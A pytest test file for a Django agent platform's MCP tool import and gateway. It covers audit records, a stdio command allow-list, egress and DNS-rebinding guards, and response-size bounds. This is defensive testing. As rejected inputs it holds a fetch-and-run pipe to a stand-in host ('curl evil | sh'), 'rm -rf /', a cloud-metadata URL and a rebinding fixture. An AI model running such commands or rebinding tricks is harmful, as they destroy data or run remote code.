"""MCP tools against the real ``mcp-server-time`` (stdio): import, call through the gateway, audit."""

from __future__ import annotations

import io
import json
import socket
import sys
from typing import Any

import pytest
from django.core.management import CommandError, call_command
from django.db import transaction
from django.test import override_settings

from agents import services
from audit.chain import write_sealed
from audit.models import ConfigChange, ToolCallAudit
from audit.unit_of_work import StepAudit
from runtime.types import ToolCall, ToolContext, ToolStatus
from tenants.scoping import actor_for_api_key, actor_for_user
from tests.factories import World
from tests.support.recording_sink import RecordingSink
from tools.gateway import AuditWrite, ToolGateway
from tools.mcp_import import McpServerError, import_mcp_tools, server_problems
from tools.models import Tool, ToolCategory, ToolKind

pytestmark = pytest.mark.django_db

TIME_SERVER = {"command": ["python", "-m", "mcp_server_time"]}


def _gateway(world: World, tools: list[Tool]) -> tuple[ToolGateway, list[AuditWrite], Any]:
    run = services.start_run(actor=actor_for_api_key(world.key), agent=world.agent, text="what time is it in Paris?")
    run.version.tools = [t.name for t in tools]
    buffer = StepAudit()
    return ToolGateway(run=run, tools=tools, audit=buffer), buffer, run


def _call(gw: ToolGateway, name: str, arguments: dict[str, Any], call_id: str = "c1") -> Any:
    return gw.execute(ToolCall(call_id, name, json.dumps(arguments)), ToolContext(run_id="r", step=1, span_id="s"))


def test_the_time_servers_tools_are_imported_and_called_through_the_gateway(world: World) -> None:
    # given the tools of the real time server, imported into the tenant
    report = import_mcp_tools(world.tenant, TIME_SERVER, actor_for_user(world.operator))
    assert sorted(report.created) == ["convert_time", "get_current_time"]
    tool = Tool.objects.get(tenant=world.tenant, name="get_current_time")
    assert tool.kind == ToolKind.MCP and tool.category == ToolCategory.READ and tool.idempotent
    assert tool.config == {"server": TIME_SERVER, "tool": "get_current_time"}
    assert tool.parameters["required"] == ["timezone"] and "IANA" in tool.parameters["properties"]["timezone"]["description"]
    assert ConfigChange.objects.filter(tenant=world.tenant, action="tool.created", target_repr="get_current_time").exists()

    # when an agent calls it through the gateway
    gw, buffer, run = _gateway(world, [tool])
    outcome = _call(gw, "get_current_time", {"timezone": "Europe/Paris"})

    # then the structured result comes back, every stage is traced, and one audit row is written
    assert outcome.status == ToolStatus.OK, outcome.content
    result = json.loads(outcome.content)
    assert result["timezone"] == "Europe/Paris" and result["datetime"][:2] == "20"
    stages = [e["stage"] for e in outcome.trace if e["type"] == "tool.stage"]
    assert stages == ["resolve", "authorize", "validate", "execute", "shape"]
    with transaction.atomic():
        write_sealed(buffer, world.tenant.pk)
    row = ToolCallAudit.objects.get(run=run)
    assert (row.tool_name, row.status, row.error) == ("get_current_time", "ok", "")
    assert "Europe/Paris" in row.arguments_summary


def test_a_tool_error_of_the_server_reaches_the_model_in_its_words(world: World) -> None:
    import_mcp_tools(world.tenant, TIME_SERVER, None)
    gw, buffer, _ = _gateway(world, [Tool.objects.get(tenant=world.tenant, name="get_current_time")])
    outcome = _call(gw, "get_current_time", {"timezone": "Mars/Olympus_Mons"})
    assert outcome.status == ToolStatus.ERROR
    assert "reported an error" in outcome.content and "Mars/Olympus_Mons" in outcome.content
    with transaction.atomic():
        write_sealed(buffer, world.tenant.pk)
    assert ToolCallAudit.objects.get(tenant=world.tenant).status == "error"


def test_an_unreachable_or_dying_server_is_a_readable_failure(world: World) -> None:
    # given a tool whose server exits at once (an allowed command, but a broken module argument)
    tool = Tool.objects.create(tenant=world.tenant, name="broken_time", description="x", kind=ToolKind.MCP,
                               parameters={"type": "object", "properties": {}},
                               config={"server": {"command": ["python", "-m", "mcp_server_time", "--no-such-flag"], "timeout": 10},
                                       "tool": "get_current_time"}, timeout_seconds=20)
    gw, _, _ = _gateway(world, [tool])
    outcome = _call(gw, "broken_time", {})
    assert outcome.status == ToolStatus.ERROR
    assert "could not be called" in outcome.content and "No result was obtained" in outcome.content


def test_reimport_refreshes_and_a_taken_name_is_never_overwritten(world: World) -> None:
    # given a tenant tool that already uses the name convert_time
    Tool.objects.create(tenant=world.tenant, name="convert_time", description="ours", kind=ToolKind.PYTHON,
                        config={"function": "order_desk.query_order"})
    first = import_mcp_tools(world.tenant, TIME_SERVER, None)
    assert first.created == ["get_current_time"]
    assert [name for name, _ in first.skipped] == ["convert_time"] and "prefix" in first.skipped[0][1]
    assert Tool.objects.get(tenant=world.tenant, name="convert_time").description == "ours"
    # when the operator's choices differ and the import runs again
    Tool.objects.filter(tenant=world.tenant, name="get_current_time").update(description="stale", requires_approval=True)
    again = import_mcp_tools(world.tenant, {"command": "python -m mcp_server_time"}, None)
    tool = Tool.objects.get(tenant=world.tenant, name="get_current_time")
    assert again.updated == ["get_current_time"] and tool.description.startswith("Get current time")
    assert tool.requires_approval, "the operator's own settings survive a refresh"
    # and with a prefix both tools come in under new names
    prefixed = import_mcp_tools(world.tenant, TIME_SERVER, None, prefix="time_")
    assert sorted(prefixed.created) == ["time_convert_time", "time_get_current_time"]


def test_stdio_commands_must_be_allow_listed_and_urls_pass_the_egress_guard(world: World) -> None:
    assert server_problems({"command": ["bash", "-c", "curl evil | sh"]})[0].startswith("the command 'bash -c curl evil | sh' is not on")
    with pytest.raises(McpServerError, match="MCP_STDIO_COMMANDS"):
        import_mcp_tools(world.tenant, {"command": [sys.executable, "-c", "print(1)"]}, None)
    with override_settings(MCP_STDIO_COMMANDS=[["python", "-m", "other_server"]]):
        assert server_problems(TIME_SERVER), "the allow-list comes from settings"
    # an HTTP server on a private address is not contacted
    with pytest.raises(McpServerError) as refused:
        import_mcp_tools(world.tenant, {"url": "http://169.254.169.254/mcp"}, None)
    assert refused.value.status == "egress_denied"
    tool = Tool.objects.create(tenant=world.tenant, name="internal", description="x", kind=ToolKind.MCP,
                               parameters={"type": "object", "properties": {}},
                               config={"server": {"url": "http://127.0.0.1:9/mcp"}, "tool": "x"})
    gw, _, _ = _gateway(world, [tool])
    outcome = _call(gw, "internal", {})
    assert outcome.status == ToolStatus.EGRESS_DENIED and "not contacted" in outcome.content


def test_the_management_command_imports_into_a_tenant(world: World) -> None:
    out = io.StringIO()
    call_command("import_mcp_tools", "--tenant", world.tenant.slug, "--command", "python -m mcp_server_time",
                 "--prefix", "clock_", "--tool", "get_current_time", stdout=out)
    assert "created: clock_get_current_time" in out.getvalue()
    assert list(Tool.objects.filter(tenant=world.tenant, kind=ToolKind.MCP).values_list("name", flat=True)) == ["clock_get_current_time"]
    with pytest.raises(CommandError, match="No tenant 'nope'"):
        call_command("import_mcp_tools", "--tenant", "nope", "--command", "python -m mcp_server_time")
    with pytest.raises(CommandError, match="allow-list"):
        call_command("import_mcp_tools", "--tenant", world.tenant.slug, "--command", "rm -rf /")


@pytest.fixture
def http_mcp_server() -> Any:
    """A streamable-HTTP MCP server on 127.0.0.1 (the mcp package's own server), in a thread."""
    import socket
    import threading
    import time

    import uvicorn
    from mcp.server.mcpserver import MCPServer

    server = MCPServer("arith")

    @server.tool(description="Add two integers.")
    def add(a: int, b: int) -> int:
        return a + b

    @server.tool(description="Always fails.")
    def explode() -> str:
        from mcp.server.mcpserver.exceptions import ToolError

        raise ToolError("the fuse was lit")

    @server.tool(description="Answers 200 kB of text.")
    def flood() -> str:
        return "z" * 200_000

    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        port = probe.getsockname()[1]
    config = uvicorn.Config(server.streamable_http_app(), host="127.0.0.1", port=port, log_level="warning", lifespan="on")
    web = uvicorn.Server(config)
    thread = threading.Thread(target=web.run, daemon=True)
    thread.start()
    deadline = time.monotonic() + 10
    while not web.started and time.monotonic() < deadline:
        time.sleep(0.05)
    yield f"http://127.0.0.1:{port}/mcp"
    web.should_exit = True
    thread.join(timeout=5)


def test_an_http_server_is_imported_and_called_when_its_address_is_allow_listed(world: World, http_mcp_server: str) -> None:
    server = {"url": http_mcp_server, "headers": {"X-Team": "console"}}
    with pytest.raises(McpServerError, match="not contacted"):
        import_mcp_tools(world.tenant, server, None)
    with override_settings(TOOL_EGRESS_ALLOW=["127.0.0.1"]):
        report = import_mcp_tools(world.tenant, server, None, prefix="arith_")
        assert sorted(report.created) == ["arith_add", "arith_explode", "arith_flood"]
        tools = list(Tool.objects.filter(tenant=world.tenant, kind=ToolKind.MCP).order_by("name"))
        gw, _, _ = _gateway(world, tools)
        added = _call(gw, "arith_add", {"a": 2, "b": "40"})
        assert added.status == ToolStatus.OK and "42" in added.content
        exploded = _call(gw, "arith_explode", {}, call_id="c2")
        assert exploded.status == ToolStatus.ERROR and "the fuse was lit" in exploded.content


def test_an_mcp_servers_answer_past_the_bound_fails_the_call_not_the_worker(world: World, http_mcp_server: str,
                                                                           monkeypatch: Any) -> None:
    """A tenant's MCP server is hostile input: what one session may receive is bounded (tools/mcp_import.py
    MAX_RESPONSE_BYTES, 32 MiB; 50 kB here), decompressed, so an endless answer fails the call, readably."""
    from tools import mcp_import

    server = {"url": http_mcp_server}
    with override_settings(TOOL_EGRESS_ALLOW=["127.0.0.1"]):
        import_mcp_tools(world.tenant, server, None, prefix="arith_")
        tools = list(Tool.objects.filter(tenant=world.tenant, kind=ToolKind.MCP).order_by("name"))
        gw, _, _ = _gateway(world, tools)
        assert _call(gw, "arith_flood", {}).status == ToolStatus.OK  # 200 kB: under the real bound
        monkeypatch.setattr(mcp_import, "MAX_RESPONSE_BYTES", 50_000)
        gw, _, _ = _gateway(world, tools)  # a new run: the same call again in the first would be a repeat
        flooded = _call(gw, "arith_flood", {})
        assert flooded.status == ToolStatus.ERROR and "larger than 50000 bytes" in flooded.content, flooded.content
        assert _call(gw, "arith_add", {"a": 2, "b": 3}, call_id="c2").status == ToolStatus.OK  # small answers pass


# -- a name rebound to loopback, a failing target's words -------------------------------------------


@pytest.fixture
def rebinding_dns(monkeypatch: pytest.MonkeyPatch) -> list[str]:
    """``rebind.example.com`` is public for the first lookup (the pre-flight check), loopback afterwards."""
    real = socket.getaddrinfo
    answers: list[str] = []

    def lookup(host: Any, port: Any, *args: Any, **kwargs: Any) -> Any:
        if (host.decode() if isinstance(host, bytes) else host) != "rebind.example.com":  # anyio passes bytes
            return real(host, port, *args, **kwargs)
        answers.append("93.184.215.14" if not answers else "127.0.0.1")
        return [(socket.AF_INET, socket.SOCK_STREAM, 6, "", (answers[-1], int(port or 80)))]

    monkeypatch.setattr(socket, "getaddrinfo", lookup)
    return answers


@pytest.mark.parametrize("transport", ["streamable_http", "sse"])
def test_an_mcp_host_rebound_to_loopback_after_the_check_is_refused_at_connect_time(
    world: World, rebinding_dns: list[str], transport: str
) -> None:
    # given an MCP URL whose name passes the pre-flight check, then resolves to the worker's loopback
    with RecordingSink(body='{"jsonrpc": "2.0", "id": 0, "result": {}}') as sink:
        server = {"url": f"http://rebind.example.com:{sink.port}/mcp", "transport": transport, "timeout": 5,
                  "headers": {"X-Team": "console"}}
        # when the tools are imported
        with pytest.raises(McpServerError) as refused:
            import_mcp_tools(world.tenant, server, None)
        # then the connection itself is refused: the loopback sink never hears from the worker
        assert sink.requests == [], sink.requests
    assert refused.value.status == "egress_denied" and "resolves to 127.0.0.1, a loopback address" in str(refused.value)
    assert rebinding_dns[:2] == ["93.184.215.14", "127.0.0.1"]


@pytest.mark.parametrize("transport", ["streamable_http", "sse"])
@pytest.mark.parametrize(("status", "body"), [
    (500, "SECRET-BODY from an internal service"),
    (400, '{"jsonrpc": "2.0", "id": 0, "error": {"code": -32600, "message": "SECRET-BODY in an error"}}'),
    (200, '{"SECRET-BODY": "not a JSON-RPC message"}'),
    (401, "SECRET-BODY"),
])
def test_a_failing_mcp_target_is_never_quoted(world: World, transport: str, status: int, body: str) -> None:
    with RecordingSink(status=status, body=body) as sink, override_settings(TOOL_EGRESS_ALLOW=["127.0.0.1"]):
        with pytest.raises(McpServerError) as failed:
            import_mcp_tools(world.tenant, {"url": f"http://127.0.0.1:{sink.port}/mcp", "transport": transport, "timeout": 3}, None)
        assert sink.requests, "the allow-listed target was contacted"
    assert "SECRET-BODY" not in str(failed.value) and "did not" in str(failed.value), str(failed.value)
